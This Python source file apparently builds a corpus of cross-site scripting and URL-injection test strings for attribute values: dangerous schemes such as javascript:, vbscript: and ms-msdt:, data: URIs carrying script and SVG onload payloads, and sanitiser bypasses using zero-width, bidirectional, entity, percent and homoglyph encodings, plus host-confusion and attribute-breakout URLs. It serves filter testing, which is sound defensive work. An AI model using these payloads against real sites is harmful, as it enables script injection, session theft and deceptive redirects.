"""Addresses that do more than lead somewhere, as they stand in an attribute between double quotes."""

from __future__ import annotations

from vectors import writing
from vectors.writing import each, encoded, templates

_ZERO_WIDTH = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u061c")
_BIDI = ("\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f")

SCHEMES = each(
    "@1:CALL",
    (
        "javascript",
        "vbscript",
        "livescript",
        "mocha",
        "jscript",
        "ecmascript",
        "feed:javascript",
        "feed:feed:javascript",
        "view-source:javascript",
        "jar:javascript",
        "wyciwyg:javascript",
        "pcast:javascript",
        "intent:javascript",
        "about",
        "web+x",
        "nachlese",
    ),
) + templates(
    "javascript://HOST/%0aCALL",
    "javascript://HOST/%0d%0aCALL//https://www.dw.com/de/a-70000001",
    "javascript:/*https://www.dw.com*/CALL",
    "javascript:'<script>top.postMessage(`CALL`,`*`)</script>'",
    "javascript:void(CALL)",
    "javascript:&#47;&#47;&NewLine;CALL",
    "javascript:%43ALL;CALL",
    "blob:https://HOST/1",
    "blob:null/CALL",
    "filesystem:https://HOST/temporary/a.html",
    "file:///etc/passwd#CALL",
    "file://HOST/share",
    "view-source:https://HOST/",
    "chrome://settings/#CALL",
    "chrome-extension://abcdefghijklmnopabcdefghijklmnop/pages/reader.html#CALL",
    "moz-extension://00000000-0000-0000-0000-000000000000/#CALL",
    "resource://gre/#CALL",
    "about:config#CALL",
    "ws://HOST/",
    "wss://HOST/",
    "ftp://HOST/",
    "gopher://HOST/",
    "jar:https://HOST/a.jar!/b.html",
    "tel:1;CALL",
    "sms:1?body=CALL",
    "cid:CALL",
    "urn:x:CALL",
    "ms-msdt:/id CALL",
    "search-ms:query=HOST",
    "smb://HOST/x",
    "intent://HOST/#Intent;scheme=https;end",
    "magnet:?xt=CALL",
    "steam://run/CALL",
    "x-javascript:CALL",
)

DISGUISED = (
    each("@1javascript:CALL", (" ", "\t", "\n", "\r\n", "\f", "\x01", "\x02", "\x0b", "\x1f", "\x7f", "\u00a0", "\u3000", "\u2028"))
    + each("@1javascript:CALL", _ZERO_WIDTH + _BIDI)
    + each("java@1script:CALL", ("\t", "\n", "\r", "\r\n", "\x00", "&Tab;", "&NewLine;", "&#9;", "&#x0A;", "&#13;", "&#0;", "&ZeroWidthSpace;", *_ZERO_WIDTH, *_BIDI))
    + each("javascript@1CALL", ("&colon;", "&#58;", "&#x3a;", "&#0000058", "\t:", "&Tab;:", ":&Tab;", "\uff1a", "%3A", "\n:\n"))
    + each("@1:CALL", ("JAVASCRIPT", "JaVaScRiPt", "javaſcript", "jаvascript", "javascrıpt", "ｊavascript", "&#106avascript", "&#x6Aavascript", "\\javascript", "/javascript", ".javascript"))
    + encoded("@", "javascript:CALL", writing.decimal, writing.padded, writing.hexadecimal, writing.upper_hexadecimal, writing.percent, writing.twice_percent, writing.unicode_escapes, writing.wide)
    + encoded("@", "javascript:CALL", writing.parted("\t"), writing.parted("\n"), writing.parted("&Tab;"), writing.parted("&NewLine;"), writing.parted("&#13;"))
    + encoded("javascript:@", "CALL", writing.percent, writing.hexadecimal, writing.unicode_escapes)
    + each("@1 \tvb@2script:CALL", ("", "\x01"), ("", "\t", "&#10;"))
)  # fmt: skip

_PAGE = "<script>top.postMessage(`CALL`,`*`)</script>"
DATA = (
    each(
        "data:@1,<script>top.postMessage(`CALL`,`*`)</script>",
        (
            "text/html",
            "TEXT/HTML",
            "text/html;charset=utf-8",
            "text/html;charset=utf-7",
            "application/xhtml+xml",
            "text/xml",
            "application/xml",
            "text/xsl",
            "application/x-shockwave-flash",
            "",
        ),
    )
    + encoded("data:text/html;base64,@", _PAGE, writing.base_64)
    + encoded("data:text/html,@", _PAGE, writing.percent, writing.hexadecimal)
    + encoded("data:image/svg+xml;base64,@", "<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>", writing.base_64)
    + templates(
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>",
        "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><script>CALL</script></svg>",
        "data:image/jpeg,<script>CALL</script>",
        "data:image/jpeg;base64,&quot; onerror=&quot;CALL",
        "da\nta:text/html,<script>top.postMessage(`CALL`,`*`)</script>",
        "d&#97;ta:text/html,<script>top.postMessage(`CALL`,`*`)</script>",
        "\x01data:text/html,<script>top.postMessage(`CALL`,`*`)</script>",
        "data&colon;text/html,<script>top.postMessage(`CALL`,`*`)</script>",
        "data:text/javascript,CALL",
        "data:text/css,*{background:url(https://HOST/a)}",
    )
)

ELSEWHERE = templates(
    "//HOST/a",
    "///HOST/a",
    "\\\\HOST\\a",
    "/\\HOST/a",
    "\\/HOST/a",
    "/\t/HOST/a",
    "https:HOST/a",
    "https:/HOST/a",
    "https:\\\\HOST\\a",
    "https://www.dw.com@HOST/a",
    "https://www.dw.com:x@HOST/a",
    "https://www.dw.com\\@HOST/a",
    "https://HOST\\@www.dw.com/a",
    "https://HOST#@www.dw.com/",
    "https://HOST?.dw.com/",
    "https://HOST/static.dw.com/image/70000006_605.jpg",
    "https://HOST/image/70000006_605.jpg",
    "http://HOST:80/a",
    "https://HOST:0/a",
    "https://HOST:99999/a",
    "https://[::1]:1/HOST",
    "https://[HOST]/",
    "https://127.0.0.1:1/HOST",
    "https://HOST/&quot; onclick=&quot;CALL",
    "https://HOST/'><script>CALL</script>",
    "https://HOST/\x00&quot;><script>CALL</script>",
    "https://HOST/\u202egpj.fdp",
    "https://\u202eHOST/",
    "https://www.dw.com\u2024HOST/",
    "https://www.dw.com%2eHOST/",
    "https://www.dw.com%00.HOST/",
    "https://\uff49.HOST/",
    "ht\ntps://HOST/a",
    "h&#116;tps://HOST/a",
    " https://HOST/a ",
    "?HOST=CALL",
    "#CALL",
    "#\" onclick=CALL",
    ".",
    "../../HOST",
    "mailto:a@HOST?subject=<script>CALL</script>",
    "mailto:a@HOST?body=&quot;><img src=x onerror=CALL>",
    "mailto:javascript:CALL",
    "mailto:%0aBcc:x@HOST",
    "https://HOST/${CALL}",
    "https://HOST/{{CALL}}",
    "https://HOST/$&quot;;CALL;//",
)  # fmt: skip
